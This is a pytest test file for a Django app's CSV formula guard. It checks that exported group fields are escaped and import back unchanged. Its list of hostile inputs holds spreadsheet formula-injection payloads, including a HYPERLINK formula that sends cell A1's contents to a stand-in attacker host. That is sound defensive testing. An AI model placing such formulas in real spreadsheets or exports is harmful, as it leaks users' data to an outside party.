"""The formula guard (healing_together/csv_guard.py) on the groups' export and import."""

import pytest

from tests.factories import make_group, make_organisation

from .test_csv_io import comparable, errors_of, export, rows_of, upload

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_text_cell_of_the_export_is_guarded_and_imports_back(
    admin_client, reference, hostile
):
    # registration_email was written raw: an address such as =1+2@example.be is valid.
    group = make_group(
        name_nl=hostile,
        summary_nl=hostile,
        registration_email="=1+2@example.be",
        registration_phone="+32 2 123 45 67",
        organisation=make_organisation(name=hostile),
    )
    text = export(admin_client)
    row = rows_of(text)[0]
    for column in ("name_nl", "description_nl", "organization_name"):
        assert row[column] == f"'{hostile}", column
    assert row["registration_email"] == "'=1+2@example.be"
    assert row["registration_phone"] == "'+32 2 123 45 67"
    response = upload(admin_client, text)
    assert response.status_code == 302, errors_of(response)
    group.refresh_from_db()
    assert (group.name_nl, group.summary_nl) == (hostile, hostile)
    assert group.registration_email == "=1+2@example.be"
    assert group.registration_phone == "+32 2 123 45 67"
    assert comparable(rows_of(export(admin_client))[0]) == comparable(row)


def test_a_description_that_starts_with_a_list_is_guarded_and_imports_back(admin_client, reference):
    html = "<ul><li>=1+1</li><li>Tweede</li></ul><p>Daarna.</p>"
    group = make_group(description_nl=html)
    text = export(admin_client)
    assert rows_of(text)[0]["details_nl"] == "'- =1+1\n- Tweede\n\nDaarna."
    response = upload(admin_client, text)
    assert response.status_code == 302, errors_of(response)
    group.refresh_from_db()
    assert group.description_nl == html
    assert not group.history.filter(history_change_reason="CSV import").exists()
